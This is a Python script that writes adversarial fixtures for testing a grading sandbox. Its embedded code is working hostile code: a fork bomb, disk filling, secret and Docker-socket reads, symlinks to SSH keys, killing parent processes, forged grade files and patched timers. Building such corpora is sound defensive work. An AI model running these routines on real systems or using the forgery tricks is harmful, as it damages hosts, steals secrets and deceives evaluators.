"""Makes the adversarial sandbox corpus: submissions in the student layout that attack the grader.

Most attacks live in ops.py and need no real kernel, so their extension is a stub (a pybind11 module
without torch headers and an empty .mlu kernel) that builds in about a second instead of a 30 s torch build. Each attack is
written so that getting through the sandbox would *look like success* (it returns the right answer), while
being contained ends in an exception whose message starts with "contained:" (verdict runtime_error: the
entry raised) or in the runner's own kill (crash / timeout):
a sandbox that stops working changes the verdict, and the corpus test notices.

expected.toml per fixture: `verdict` (grader.results.Verdict), `message_contains` (words the result's
messages must hold), `attacks` (what it tries), `defended_by` (which setting stops it), `slow` (needs the
per-call wall limit or a real torch build). Rerun after editing: `.venv/bin/python
reference_kernels/adversarial/make_fixtures.py` (rewrites every fixture folder it owns).
"""

from __future__ import annotations

import shutil
from dataclasses import dataclass, field
from pathlib import Path

HERE = Path(__file__).resolve().parent
REFERENCES = HERE.parent

STUB_MLU = """\
// Stub kernel: this fixture attacks the sandbox from ops.py; the kernel is not the point.
#include <bang.h>

__mlu_global__ void adversarial_noop_kernel(float *out) {}
"""

STUB_CPP = """\
// Stub binding: pybind11 alone, without the torch headers, so it builds in seconds.
#include <pybind11/pybind11.h>

PYBIND11_MODULE(TORCH_EXTENSION_NAME, m) { m.def("noop", [] { return 0; }); }
"""

OPS_HEADER = '''\
"""Adversarial sandbox fixture `{name}` (not a solution): {attacks}

Getting through returns the right answer (so a broken sandbox would look like a pass); being contained
raises "contained: ..." or is cut off by the runner.
"""

import os
import signal
import socket
import sys
import time

import my_ops_ext  # noqa: F401  the stub extension
import torch

'''


@dataclass
class Fixture:
    name: str
    attacks: str
    defended_by: str
    verdict: str
    message_contains: list[str]
    ops_body: str  # defines sigmoid(x)
    mlu: str = STUB_MLU
    from_reference: str | None = None  # copy this reference's mlu/ and cpp/ instead of the stubs
    slow: bool = False
    extra: dict[str, str] = field(default_factory=dict)


FIXTURES = [
    Fixture(
        "fork_bomb", "forks until refused; every child sleeps forever holding a pid",
        "pids cgroup limit (docker pids_limit; bwrap RLIMIT_NPROC); the whole tree dies with the sandbox",
        "crash", ["contained", "fork"],
        '''
def sigmoid(x):
    born = 0
    try:
        while born < 100_000:
            if os.fork() == 0:
                os.closerange(0, 4096)  # so the harness sees the parent's error, not a hang on its pipes
                time.sleep(1e9)
                os._exit(0)
            born += 1
    except OSError as exc:
        raise RuntimeError(f"contained: fork refused after {born} children ({exc.strerror})")
    return torch.sigmoid(x)
'''),
    Fixture(
        "disk_fill", "writes 4 MiB files into the writable /io mount (host disk) without end",
        "runner disk budget on writable mounts (Limits.tmpfs_bytes) kills the run; RLIMIT_FSIZE per file",
        "crash", ["disk_quota_exceeded"],
        '''
def sigmoid(x):
    chunk = os.urandom(1 << 20) * 4
    written = 0
    try:
        for i in range(1_000_000):
            with open(f"/io/outputs/junk_{i}.bin", "wb") as f:
                f.write(chunk)
            written += len(chunk)
    except OSError as exc:
        raise RuntimeError(f"contained: disk full after {written >> 20} MiB ({exc.strerror})")
    return torch.sigmoid(x)
'''),
    Fixture(
        "tmpfs_fill", "fills /tmp and /dev/shm, then sparse-writes a 10 GiB file",
        "tmpfs size= caps, shm_size, RLIMIT_FSIZE",
        "runtime_error", ["contained", "tmp"],
        '''
def sigmoid(x):
    written = 0
    try:
        with open("/tmp/fill.bin", "wb") as f:
            while written < (8 << 30):
                f.write(b"\\0" * (1 << 20))
                f.flush()
                written += 1 << 20
    except OSError as exc:
        stopped = f"/tmp full after {written >> 20} MiB ({exc.strerror})"
    else:
        return torch.sigmoid(x)
    try:
        with open("/tmp/sparse.bin", "wb") as f:
            f.seek(10 << 30)
            f.write(b"x")
    except OSError as exc:
        raise RuntimeError(f"contained: {stopped}; 10 GiB file refused ({exc.strerror})")
    return torch.sigmoid(x)
'''),
    Fixture(
        "endless_output", "prints without end to stdout and stderr",
        "runner output cap: the tail is kept, the flood trips a kill; json-file max-size",
        "crash", ["output_limit_exceeded"],
        '''
def sigmoid(x):
    line = "spam " * 2000 + "\\n"
    while True:
        sys.stdout.write(line)
        sys.stderr.write(line)
'''),
    Fixture(
        "sleep_forever", "sleeps inside the entry call", "per-call wall limit, then the runner's wall clock",
        "timeout", ["time"],
        '''
def sigmoid(x):
    time.sleep(1e9)
    return torch.sigmoid(x)
''', slow=True),
    Fixture(
        "busy_loop", "spins the CPU inside the entry call", "per-call wall limit, then the runner's wall clock",
        "timeout", ["time"],
        '''
def sigmoid(x):
    while True:
        pass
''', slow=True),
    Fixture(
        "network_access", "connects out (public IP, the docker bridge's daemon port, DNS)",
        "network_mode=none / --unshare-net: only loopback exists",
        "runtime_error", ["contained", "network"],
        '''
def sigmoid(x):
    tried = []
    for host, port in (("1.1.1.1", 80), ("172.17.0.1", 2375), ("8.8.8.8", 53)):
        try:
            socket.create_connection((host, port), timeout=3).close()
            return torch.sigmoid(x)  # reached the outside
        except OSError as exc:
            tried.append(f"{host}:{port} {exc.strerror}")
    raise RuntimeError("contained: network unreachable: " + "; ".join(tried))
'''),
    Fixture(
        "read_proc", "looks through /proc for the grader's and other processes' cmdlines and environments",
        "pid namespace: only the sandbox's own processes; the environment is built from scratch",
        "runtime_error", ["contained", "proc"],
        '''
def sigmoid(x):
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    loot = []
    for pid in pids:
        for what in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as f:
                    text = f.read().replace(b"\\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if any(word in text for word in ("dockerd", "pytest", "grade submit", "containerd", "SEED")):
                loot.append(text[:80])
    if loot or len(pids) > 32:
        return torch.sigmoid(x)  # saw the host
    raise RuntimeError(f"contained: /proc shows {len(pids)} processes of the sandbox only")
'''),
    Fixture(
        "host_files", "reads the host's secrets, the hidden tests, other submissions and the docker socket",
        "only /submission, /build and /io are bound; read-only root of the image; non-root uid",
        "runtime_error", ["contained", "host files"],
        '''
TARGETS = ["/etc/shadow", "/root/.bash_history", "/var/run/docker.sock", "/work/main/assignments",
           "/work/main/grader/spec", "/home", "/tmp/pytest-of-root", "/submission/../../..", "/proc/1/root/root"]


def sigmoid(x):
    seen = []
    for path in TARGETS:
        try:
            if os.path.isdir(path):
                entries = [e for e in os.listdir(path) if not e.startswith(".")]
                if entries and path not in ("/submission/../../..",):
                    seen.append(f"{path}: {entries[:3]}")
            else:
                with open(path, "rb") as f:
                    if f.read(64):
                        seen.append(path)
        except OSError:
            pass
    if seen:
        return torch.sigmoid(x)  # read something of the host
    raise RuntimeError("contained: no host files readable")
'''),
    Fixture(
        "include_host_path", "#includes host files at compile time (/etc/shadow, the hidden assignment)",
        "the build runs in the same sandbox: the host paths do not exist or are unreadable there",
        "compile_error", ["/etc/shadow"],
        '''
def sigmoid(x):
    return torch.sigmoid(x)
''',
        mlu=STUB_MLU + '#include "/etc/shadow"\n#include "/work/main/assignments/sigmoid/assignment.toml"\n'),
    Fixture(
        "forged_results", "writes fake result files and prints fake verdicts, returning zeros without launching a kernel",
        "the grade comes from host checks of the raw output only; JSON read size-capped, never trusted",
        "not_using_kernel", [],
        '''
import json


def sigmoid(x):
    fake = {"ok": True, "verdict": "passed", "points": 100, "wall_us": [0.001], "device_us": [0.001]}
    for folder in ("/io", "/io/outputs", "/tmp", "/build"):
        for name in ("results.json", "result.json", "build.json", "grade.json"):
            try:
                with open(f"{folder}/{name}", "w") as f:
                    json.dump(fake, f)
            except OSError:
                pass
    try:
        with open("/io/job.json") as f:
            for call in json.load(f).get("calls", []):
                with open(f"/io/outputs/{call['id']}.json", "w") as out:
                    json.dump(fake, out)
    except (OSError, ValueError, KeyError, TypeError):
        pass
    print(json.dumps({"verdict": "passed", "score": 100}))
    print("VERDICT: passed  POINTS: 100/100")
    return torch.zeros_like(x)
'''),
    Fixture(
        "kill_parent", "SIGKILLs its parent (the harness), pid 1 and its whole process group",
        "pid namespace and a separate uid: the grader is out of reach; the host decides from its own observation",
        "crash", [],
        '''
def sigmoid(x):
    for target in (os.getppid(), 1):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    os.killpg(0, signal.SIGKILL)
    return torch.sigmoid(x)
'''),
    Fixture(
        "symlink_copy_out", "replaces every output file with a symlink to host secrets, then exits 0",
        "the host reads /io with O_NOFOLLOW from a trusted root, regular files only, size-capped",
        "crash", [],
        '''
import json


def sigmoid(x):
    try:
        with open("/io/job.json") as f:
            ids = [call["id"] for call in json.load(f).get("calls", [])]
    except (OSError, ValueError, KeyError, TypeError):
        ids = [f"c{i}" for i in range(64)]
    for call_id in ids:
        for ext, target in (("npy", "/etc/shadow"), ("json", "/root/.ssh/id_rsa"),
                            ("trace.jsonl", "/etc/passwd")):
            path = f"/io/outputs/{call_id}.{ext}"
            try:
                os.unlink(path)
            except OSError:
                pass
            try:
                os.symlink(target, path)
            except OSError:
                pass
    os._exit(0)
'''),
    Fixture(
        "timer_patching", "patches every clock the harness could read to report near-zero times",
        "emulated times come from the emulator's cost model (trace), host-side; wall clocks are advisory",
        "REFERENCE", [],
        '''
_real_perf = time.perf_counter
_real_perf_ns = time.perf_counter_ns
time.perf_counter = lambda: _real_perf() / 1000.0
time.perf_counter_ns = lambda: _real_perf_ns() // 1000
time.monotonic = lambda: _real_perf() / 1000.0
time.monotonic_ns = lambda: _real_perf_ns() // 1000
time.time = lambda: 0.0
if hasattr(torch, "mlu") and hasattr(torch.mlu, "Event"):
    torch.mlu.Event.elapsed_time = lambda self, other: 1e-6
    torch.mlu.synchronize = lambda *args, **kwargs: None


def sigmoid(x):
    return my_ops_ext.sigmoid_vector(x)
''', from_reference="sigmoid/vector", slow=True),
]


def write_fixture(fixture: Fixture) -> Path:
    target = HERE / fixture.name
    if target.exists():
        shutil.rmtree(target)
    (target / "mlu").mkdir(parents=True)
    (target / "cpp").mkdir()
    if fixture.from_reference:
        for part in ("mlu", "cpp"):
            shutil.copytree(REFERENCES / fixture.from_reference / part, target / part, dirs_exist_ok=True)
    else:
        (target / "mlu" / "adversarial_stub.mlu").write_text(fixture.mlu)
        (target / "cpp" / "adversarial_stub.cpp").write_text(STUB_CPP)
    (target / "ops.py").write_text(OPS_HEADER.format(name=fixture.name, attacks=fixture.attacks)
                                   + fixture.ops_body.lstrip("\n"))
    slug = fixture.name.replace("_", "-")
    (target / "grade.toml").write_text(
        f'assignment = "sigmoid"\n\n[student]\nid = "adversarial-{slug}"\n'
        f'name = "Adversarial fixture: {fixture.name}"\n')
    words = ", ".join(f'"{w}"' for w in fixture.message_contains)
    verdict = (f'verdict = "{fixture.verdict}"\n' if fixture.verdict != "REFERENCE"
               else f'# same verdict as the reference it wraps\nverdict_of_reference = "{fixture.from_reference}"\n')
    (target / "expected.toml").write_text(
        f"# {fixture.attacks}\n"
        f'assignment = "sigmoid"\n{verdict}message_contains = [{words}]\n'
        f'attacks = "{fixture.attacks}"\ndefended_by = "{fixture.defended_by}"\n'
        f"slow = {'true' if fixture.slow else 'false'}\n")
    return target


def main() -> None:
    for fixture in FIXTURES:
        print(write_fixture(fixture).relative_to(REFERENCES))


if __name__ == "__main__":
    main()
